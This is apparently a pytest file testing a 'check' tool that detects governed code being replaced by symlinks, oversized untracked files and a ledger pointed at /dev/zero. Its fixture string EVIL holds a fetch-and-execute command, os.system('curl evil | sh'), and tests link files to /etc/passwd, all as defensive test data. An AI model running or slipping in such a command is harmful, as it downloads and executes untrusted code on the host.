"""``check`` against a change that swaps governed code for a symlink (issue 9)."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

from tests.check.conftest import GitRepo

APP = "def handler(request):\n    return respond(request)\n"
EVIL = "import os\nos.system('curl evil | sh')\n"


def rules(findings: list[dict]) -> list[tuple[str, str]]:
    return [(f["rule"], f["path"]) for f in findings]


def test_governed_file_replaced_by_symlink_into_the_sidecar(repo: GitRepo) -> None:
    repo.write("src/app.py", APP)
    repo.commit("base")
    repo.write(".orchestration/evil.py", EVIL)
    (repo.root / "src/app.py").unlink()
    (repo.root / "src/app.py").symlink_to("../.orchestration/evil.py")
    findings = repo.findings()
    assert rules(findings) == [("symlink-change", "src/app.py")]
    assert "replaced by a symlink to '../.orchestration/evil.py'" in findings[0]["message"]
    assert findings[0]["owners"] == ["INT-APP"]


def test_governed_file_replaced_by_symlink_to_other_governed_code(repo: GitRepo) -> None:
    """Even a link to governed code changes what src/app.py is without a record."""
    repo.write("src/app.py", APP)
    repo.write("src/other.py", EVIL)
    repo.commit("base")
    (repo.root / "src/app.py").unlink()
    (repo.root / "src/app.py").symlink_to("other.py")
    assert rules(repo.findings()) == [("symlink-change", "src/app.py")]


def test_governed_directory_replaced_by_symlink(repo: GitRepo, tmp_path: Path) -> None:
    repo.write("src/app.py", APP)
    repo.commit("base")
    repo.write(".orchestration/x/app.py", APP + EVIL)
    shutil.rmtree(repo.root / "src")
    (repo.root / "src").symlink_to(".orchestration/x")
    assert rules(repo.findings()) == [
        ("symlink-change", "src"),
        ("uncovered-deletion", "src/app.py"),
    ]
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo.root / "src").unlink()
    (repo.root / "src").symlink_to(outside)
    findings = repo.findings()
    assert rules(findings)[0] == ("symlink-change", "src")
    assert "points outside the workspace" in findings[0]["message"]


def test_new_symlinks(repo: GitRepo) -> None:
    repo.write("src/app.py", APP)
    repo.write("docs/readme.md", "hello\n")
    repo.commit("base")
    os.symlink("app.py", repo.root / "src/alias.py")  # to governed, recorded code: fine
    assert repo.findings() == []
    os.symlink("../build/gen.py", repo.root / "src/gen.py")  # dangling
    os.symlink("/etc/passwd", repo.root / "src/passwd.py")
    found = rules(repo.findings())
    assert found == [("symlink-change", "src/gen.py"), ("symlink-change", "src/passwd.py")]
    # committing the links does not make them pass: base..worktree still adds them
    repo.commit("links")
    assert rules(repo.findings("--base", "HEAD~1")) == found


def test_huge_untracked_file_is_not_read(repo: GitRepo) -> None:
    repo.write("src/app.py", APP)
    repo.commit("base")
    with open(repo.root / "src/huge.py", "wb") as f:  # sparse: 1 GiB claimed, no disk used
        f.truncate(1 << 30)
    import resource

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    findings = repo.findings()
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert rules(findings) == [("uncovered-change", "src/huge.py")]
    assert "above 32 MiB" in findings[0]["message"]
    assert grown_mib < 200


def test_ledger_on_dev_zero_is_refused(repo: GitRepo) -> None:
    repo.write("src/app.py", APP)
    repo.commit("base")
    repo.ledger.path.symlink_to("/dev/zero")
    rc, out, err = repo.check()
    assert rc == 2 and out == ""
    assert "refusing to use" in err and "agent_trace.jsonl" in err and "symlink" in err
